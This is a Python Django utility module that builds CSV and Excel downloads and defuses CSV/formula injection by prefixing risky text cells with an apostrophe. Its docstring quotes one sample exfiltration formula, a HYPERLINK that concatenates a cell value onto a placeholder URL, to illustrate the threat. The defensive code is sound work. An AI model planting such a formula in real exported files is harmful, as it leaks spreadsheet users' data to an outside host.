"""One way to write every CSV and Excel file the product hands out, with formulas disarmed.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some read a leading tab
or carriage return the same way) as a formula: an imported name like
`=HYPERLINK("http://x/?"&A1,"klik")` would become a live link in HR's Excel. Every text cell
that starts with one of those characters gets a leading apostrophe, which spreadsheets show
as plain text (OWASP "CSV injection"). Numbers, dates and booleans are left as they are.
The admin's import-export downloads do the same (`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse

PEMICU_RUMUS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def sel_aman(nilai: Any) -> Any:
    """The cell value, with a text that a spreadsheet would run as a formula disarmed."""
    if isinstance(nilai, str) and nilai.startswith(PEMICU_RUMUS):
        return "'" + nilai
    return nilai


def baris_aman(baris: Iterable[Any]) -> list[Any]:
    return [sel_aman(v) for v in baris]


def dataset(headers: Sequence[str], baris: Iterable[Iterable[Any]], *, judul: str = ""):
    """A tablib Dataset whose cells are already disarmed."""
    import tablib

    data = tablib.Dataset(headers=list(headers), title=judul or None)
    for b in baris:
        data.append(baris_aman(b))
    return data


def _lampiran(response: HttpResponse, nama_berkas: str) -> HttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{nama_berkas}"'
    return response


def xlsx_bita(data: Any) -> bytes:
    """The xlsx bytes of a tablib Dataset, cells disarmed again whoever built it (for a file
    kept to be downloaded later)."""
    return dataset(data.headers or [], data, judul=data.title or "").export("xlsx")


def xlsx_respons(data: Any, nama_berkas: str) -> HttpResponse:
    """An Excel download of a tablib Dataset (cells disarmed again, whoever built it)."""
    return _lampiran(HttpResponse(xlsx_bita(data), content_type=XLSX), nama_berkas)


def csv_respons(
    headers: Sequence[str], baris: Iterable[Iterable[Any]], nama_berkas: str
) -> HttpResponse:
    """A CSV download (UTF-8 with a BOM so that Excel reads it), streamed row by row."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response.write("\ufeff")
    tulis = csv.writer(response)
    tulis.writerow(baris_aman(headers))
    for b in baris:
        tulis.writerow(baris_aman(b))
    return _lampiran(response, nama_berkas)
